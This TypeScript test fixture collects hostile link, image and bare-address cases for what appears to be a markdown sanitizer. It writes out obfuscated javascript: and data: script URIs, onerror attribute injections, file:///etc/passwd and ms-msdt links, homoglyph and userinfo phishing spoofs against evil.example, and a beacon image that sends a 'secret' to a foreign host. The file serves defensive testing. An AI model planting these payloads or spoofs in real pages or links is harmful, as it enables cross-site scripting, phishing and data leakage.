/** Targets that run, spoof or leave, as links, images and bare addresses. */

import { CANARY, casesOf, FOREIGN, type HostileCase } from "./hostile-case.ts";

const RUNS = `javascript:${CANARY}`;
const FRAME = `data:text/html,<script>${CANARY}</script>`;

/** Targets that must never be a link's, by what is odd about them. */
const refused: Readonly<Record<string, string>> = {
  "a script": RUNS,
  "a script in mixed case": `JaVaScRiPt:${CANARY}`,
  "a script that looks like an address": `javascript://a.example/%0A${CANARY}`,
  "a script with a host and a query": `javascript://a.example/?%0d%0a${CANARY}//`,
  "a script in two steps": `javascript:location='javascript:${CANARY}'`,
  "a script behind a vertical bar": `javascript:1|${CANARY}`,
  "a script of entities": `&#x6a;avascript&colon;${CANARY}`,
  "a script of percent signs": `%6Aavascript%3A${CANARY}`,
  "a script of wide letters": `ｊａｖａｓｃｒｉｐｔ：${CANARY}`,
  "a script with a soft hyphen": `java\u00ADscript:${CANARY}`,
  "a script with a joiner": `java\u200Dscript:${CANARY}`,
  "a script with a byte order mark": `\uFEFF${RUNS}`,
  "a script behind a control character": `\u0001${RUNS}`,
  "a script behind a no-break space": `\u00A0${RUNS}`,
  "a script with a tab entity": `java&Tab;script:${CANARY}`,
  "a script with a line end entity": `java&NewLine;script:${CANARY}`,
  "a script with a backslash": `java\\script:${CANARY}`,
  "a script of another language": `vbscript:${CANARY}`,
  "a script of live connect": `livescript:${CANARY}`,
  "a script of mocha": `mocha:${CANARY}`,
  "a page of data": FRAME,
  "a page of data in base64": `data:text/html;base64,${btoa(`<script>${CANARY}</script>`)}`,
  "a drawing of data": `data:image/svg+xml,<svg onload=${CANARY}>`,
  "a drawing of data in base64": `data:image/svg+xml;base64,${btoa(`<svg onload="${CANARY}"/>`)}`,
  "a document of XML": `data:application/xhtml+xml,<script>${CANARY}</script>`,
  "data of no type": `data:,${CANARY}`,
  "data in mixed case": `DaTa:text/html,${CANARY}`,
  "a blob": "blob:https://a.example/00000000-0000-0000-0000-000000000000",
  "a file of this machine": "file:///etc/passwd",
  "a file of another machine": "file://elsewhere.example/share",
  "a file system of the page": "filesystem:https://a.example/temporary/x",
  "the source of a page": "view-source:https://a.example/",
  "a page about nothing": "about:blank",
  "a page about a document": "about:srcdoc",
  "a page of the browser": "chrome://settings/",
  "an intent of a phone": "intent://scan/#Intent;scheme=zxing;end",
  "a program of Windows": "ms-msdt:/id PCWDiagnostic",
  "a search of Windows": "search-ms:query=x",
  "a call": "tel:+15550100",
  "a message of a phone": "sms:+15550100?body=hi",
  "a socket": "ws://elsewhere.example/",
  "a transfer": "ftp://elsewhere.example/",
  "a path of this page": "/assets/index.js",
  "a path without a scheme": "//elsewhere.example/",
  "a path with three slashes": "///elsewhere.example/",
  "a path with backslashes": "\\\\elsewhere.example\\share",
  "a path up": "../../../x",
  "a place in this page": "#/settings",
  "an invite of this page": "#w=1.S3VzdE9mVGhlR2FyZGVu",
  "a query of this page": "?scene=first",
  "a scheme and nothing else": "https:",
  "a scheme with two slashes alone": "https://",
  "a scheme that is none": "ht!tps://a.example",
  "a colon first": ":https://a.example",
  "a port beyond ports": "https://a.example:99999/",
  "a host with a bracket": "https://[::1/",
  "a host of a hundred thousand digits": `https://${"9".repeat(400)}/`,
};

/** Targets that may be followed, with the host that must stand beside the words. */
const spoofs: Readonly<Record<string, string>> = {
  "a bank before the host": "https://bank.example@evil.example/login",
  "a bank and a password before the host": "https://bank.example:443@evil.example/",
  "a bank behind percent signs": "https://bank.example%2Flogin@evil.example/",
  "a host with a dot at its end": "https://evil.example./",
  "a host of Cyrillic letters": "https://аррӏе.example/",
  "a host of mixed letters": "https://раypal.example/",
  "a host of Greek letters": "https://gοοgle.example/",
  "a host with a fraction slash": "https://bank.example\u2044login.evil.example/",
  "a host with a division slash": "https://bank.example\u2215login.evil.example/",
  "a host of wide letters": "https://ｅｖｉｌ.example/",
  "a host of an ideographic stop": "https://evil。example/",
  "a host of right-to-left letters": "https://שלום.example/",
  "a host that turns the text": "https://a.example/\u202Emoc.knab",
  "a host of sharp s": "https://straße.example/",
  "a host with a joiner": "https://a\u200Db.example/",
  "a host with zero width": "https://ba\u200Bnk.example/",
  "a host with a soft hyphen": "https://ba\u00ADnk.example/",
  "a host of emoji": "https://🦊.example/",
  "a host of one long label": `https://${"a".repeat(63)}.example/`,
  "a host of many labels": `https://${"a.".repeat(100)}example/`,
  "a number for a host": "http://2130706433/",
  "an octal number for a host": "http://0177.0.0.1/",
  "a hexadecimal number for a host": "http://0x7f.1/",
  "an address of six": "http://[::1]:8080/",
  "an address of four in six": "http://[::ffff:127.0.0.1]/",
  "a host with a space": "https://a b.example/",
  "a port": "https://a.example:8443/",
  "a long path": `https://a.example/${"p".repeat(5_000)}`,
  "a path of dots": "https://a.example/../../..//",
  "a path that says another scheme": "https://a.example/javascript:canary(1)",
  "a query of markup": "https://a.example/?q=<script>canary(1)</script>",
  "a query of quotes": `https://a.example/?q="onmouseover="${CANARY}`,
  "a place of markup": `https://a.example/#<img src=x onerror=${CANARY}>`,
  "backslashes for slashes": "https:\\\\evil.example\\x",
  "one slash": "https:/evil.example/",
  "no slash": "https:evil.example",
  "many slashes": "https://////evil.example/",
  "capitals": "HTTPS://EVIL.EXAMPLE/",
  "a mail with a script": `mailto:a@a.example?body=<script>${CANARY}</script>`,
  "a mail with headers": "mailto:a@a.example?cc=b@b.example&bcc=c@c.example%0d%0aX:1",
  "a mail to nobody's host": "mailto:javascript:canary(1)@a.example",
  "a mail to a thousand": `mailto:${"a@a.example,".repeat(300)}b@b.example`,
};

/** As `[words](<target>)`: angle brackets take spaces and brackets of the target along. */
const asLink = (targets: Readonly<Record<string, string>>): readonly HostileCase[] =>
  Object.entries(targets).map(([title, target]) => ({
    title: `link: ${title}`,
    text: `before [words](<${target.replace(/([<>])/g, "\\$1")}>) after`,
    hides: [`](<${target.replace(/([<>])/g, "\\$1")}>)`],
  }));

const labels = casesOf("words of a link", {
  "another address": ["[https://bank.example](https://evil.example/)", "](https://evil.example/)"],
  "turned text": [
    "[moc.live//:sptth\u202E](https://evil.example/)",
    "](https://evil.example/)",
  ],
  "an isolate that never ends": [
    "[safe \u2066](https://evil.example/) and after",
    "](https://evil.example/)",
  ],
  "nothing": ["[](https://evil.example/) x", "(https://evil.example/)"],
  "zero width": ["[\u200B\u200C\u2060](https://evil.example/)", "](https://evil.example/)"],
  "markup": [
    `[<img src=x onerror=${CANARY}>](https://evil.example/)`,
    "](https://evil.example/)",
  ],
  "code": ["[`a`](https://evil.example/)", "](https://evil.example/)"],
  "an image": [
    `[![a](${FOREIGN}/p.png)](https://evil.example/)`,
    `](${FOREIGN}/p.png)](https://evil.example/)`,
  ],
  "thirty thousand letters": [
    `[${"w".repeat(30_000)}](https://evil.example/)`,
    "](https://evil.example/)",
  ],
  "several lines": ["[a\nb\nc](https://evil.example/)", "](https://evil.example/)"],
  "a title of markup": [
    `[a](https://evil.example/ "<b onmouseover=${CANARY}>")`,
    `](https://evil.example/ "<b onmouseover=${CANARY}>")`,
  ],
  "a title that turns": [
    "[a](https://evil.example/ '\u202Etxt')",
    "](https://evil.example/ '\u202Etxt')",
  ],
});

const images = casesOf("image", {
  "of another host": [`![a](${FOREIGN}/pixel.png)`, `](${FOREIGN}/pixel.png)`],
  "of this host": ["![a](/beacon.png)", "](/beacon.png)"],
  "of data": [
    "![a](data:image/png;base64,iVBORw0KGgo=) b",
    "](data:image/png;base64,iVBORw0KGgo=)",
  ],
  "of a script": `![a](${RUNS})`,
  "of a blob": ["![a](blob:https://a.example/1)", "](blob:https://a.example/1)"],
  "with quotes in its words": [
    `![a" onerror="${CANARY}](${FOREIGN}/p.png)`,
    `](${FOREIGN}/p.png)`,
  ],
  "with a title": [
    `![a](${FOREIGN}/p.png "b' onerror='${CANARY}")`,
    `](${FOREIGN}/p.png "b' onerror='${CANARY}")`,
  ],
  "without words": [`![](${FOREIGN}/p.png)`, `(${FOREIGN}/p.png)`],
  "a thousand": [
    `![a](${FOREIGN}/p.png)`.repeat(500),
    ...Array.from({ length: 500 }, () => `](${FOREIGN}/p.png)`),
  ],
  "with a size": `![a](${FOREIGN}/p.png =99999x99999)`,
  "that is a beacon": [
    `![a](${FOREIGN}/log?said=secret&who=me)`,
    `](${FOREIGN}/log?said=secret&who=me)`,
  ],
});

const bare = casesOf("bare address", {
  "in angle brackets": "<https://evil.example/>",
  "a script in angle brackets": `<${RUNS}>`,
  "data in angle brackets": "<data:text/html,x>",
  "a mail in angle brackets": "<a@a.example>",
  "as it is": "see https://evil.example/x.",
  "without a scheme": "see www.evil.example and evil.example/x",
  "a file's name that is a domain": "open readme.md and setup.zip, then main.rs",
  "with brackets": "(https://evil.example/a_(b)_c)",
  "with quotes": '"https://evil.example/"onmouseover="canary(1)"',
  "with markup": "https://evil.example/<script>canary(1)</script>",
  "with stars": "**https://evil.example/**x**",
  "with direction": "https://evil.example/\u202Egpj.exe",
  "of a script": `${RUNS} and https://a.example`,
  "a thousand": "https://evil.example/x ".repeat(1_000),
  "one of thirty thousand letters": `https://evil.example/${"p".repeat(30_000)}`,
  "a mail of many dots": "a.".repeat(5_000) + "@a.example",
  "slashes alone": "/".repeat(20_000) + "x",
  "schemes alone": "http://".repeat(3_000) + "x",
  "at signs alone": "a@".repeat(10_000) + "x",
  "colons alone": "a:".repeat(10_000) + "x",
});

export const linkCases: readonly HostileCase[] = [
  ...asLink(refused),
  ...asLink(spoofs),
  ...labels,
  ...images,
  ...bare,
];

/** Titles of the cases that may make no link at all. */
export const refusedTitles: ReadonlySet<string> = new Set(
  Object.keys(refused).map((title) => `link: ${title}`),
);
